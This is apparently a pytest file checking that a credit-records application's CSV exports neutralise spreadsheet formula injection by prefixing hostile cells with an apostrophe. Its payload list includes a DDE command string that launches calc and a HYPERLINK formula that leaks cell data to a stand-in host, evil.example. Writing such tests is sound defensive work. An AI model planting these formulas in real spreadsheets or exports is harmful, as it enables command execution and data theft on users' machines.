"""CSV formula injection: a cell a spreadsheet would run as a formula leaves every CSV the
project writes with a leading ``'`` (reports over the API and the CLI, ``credithub
resolve``); numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from sqlalchemy.orm import Session, sessionmaker

from cli.main import register_commands
from cli.resolve import resolve_command
from core.config import Config
from core.models import Role
from tests.support.api import make_token
from tests.support.credit import USCC_XINGHE, make_company, make_credit_feed, make_record

# What a hostile department feed or a party's own registration could carry.
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
    "+SUM(1,1)",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


@dataclass(frozen=True)
class Hostile:
    titles: dict[int, str]  # record id -> title as stored
    minus_five: int  # the record titled "-5" with a fine of -5


@pytest.fixture
def hostile(session_factory: sessionmaker[Session]) -> Hostile:
    with session_factory() as session:
        feed = make_credit_feed(session, code="epb")
        company = make_company(session, name=HYPERLINK, uscc=USCC_XINGHE)
        titles = {
            make_record(session, entity=company, feed=feed, title=payload).id: payload
            for payload in PAYLOADS
        }
        minus = make_record(
            session, entity=company, feed=feed, title="-5", fine_amount=Decimal("-5")
        )
        session.commit()
        return Hostile(titles, minus.id)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_neutralised(rows: list[dict[str, str]], hostile: Hostile) -> None:
    by_id = {int(row["record_id"]): row for row in rows}
    for record_id, payload in hostile.titles.items():
        assert by_id[record_id]["title"] == "'" + payload
        assert by_id[record_id]["entity_name"] == "'" + HYPERLINK
    minus = by_id[hostile.minus_five]
    # A text cell that looks like a number is still text; the fine is a number.
    assert minus["title"] == "'-5"
    assert Decimal(minus["fine_amount"]) == Decimal("-5")
    # Harmless text is left alone.
    assert all(not row["feed_code"].startswith("'") for row in rows)


def test_report_csv_over_the_api(
    config: Config,
    make_app: Callable[[Config], Flask],
    session_factory: sessionmaker[Session],
    hostile: Hostile,
) -> None:
    api = make_app(dataclasses.replace(config, today="2026-06-01")).test_client()
    for role in (Role.ANALYST, Role.REGULATOR):
        response = api.get(
            "/api/v1/reports/records?format=csv", headers=make_token(session_factory, role)
        )
        assert response.status_code == 200
        assert_neutralised(read_csv(response.get_data(as_text=True)), hostile)


def test_report_csv_from_the_cli(
    config: Config, make_app: Callable[[Config], Flask], hostile: Hostile, tmp_path: Path
) -> None:
    app = make_app(dataclasses.replace(config, today="2026-06-01"))
    register_commands(app)
    out = tmp_path / "records.csv"
    result = app.test_cli_runner().invoke(
        args=["report", "records", "--as-role", "analyst", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert_neutralised(read_csv(out.read_bytes().decode("utf-8")), hostile)


def test_resolve_output(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name"])
        for number, payload in enumerate(PAYLOADS):
            # The reader strips ids; a formula after the blank still gets through.
            writer.writerow([payload + f"&{number}", f"公司{number}"])
        writer.writerow(["ok-1", "北京星河科技有限公司"])
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        resolve_command, [str(source), "--out", str(out), "--id-column", "id", "--quiet"]
    )
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_bytes().decode("utf-8"))
    expected = [p.strip() + f"&{n}" for n, p in enumerate(PAYLOADS)]
    assert [row["record_id"] for row in rows] == ["'" + e for e in expected] + ["ok-1"]
    assert all(row["entity_id"].startswith("'") for row in rows[:-1])
    assert float(rows[0]["confidence"]) >= 0
